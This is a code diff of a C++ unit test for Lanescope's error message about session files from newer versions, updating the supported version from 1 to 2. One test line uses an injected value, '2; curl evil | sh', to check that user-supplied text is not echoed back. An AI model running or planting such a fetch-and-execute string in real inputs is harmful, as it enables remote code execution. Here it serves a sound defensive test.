@@ -76,8 +76,8 @@ TEST(BadSession, OfANewerProgramSaysWhatItNeeds) {
     };
     EXPECT_EQ(newer(R"("needs":"2.5",)"),
               "s.lanescope (session.json) has version 7, which needs Lanescope 2.5 or later; this program reads up to "
-              "version 1.");
-    EXPECT_EQ(newer({}), "s.lanescope (session.json) has version 7; this program reads up to version 1.");
+              "version 2.");
+    EXPECT_EQ(newer({}), "s.lanescope (session.json) has version 7; this program reads up to version 2.");
     // Nothing of what somebody wrote there is repeated.
     EXPECT_THAT(newer(R"("needs":"2; curl evil | sh",)"), Not(HasSubstr("curl")));
 }
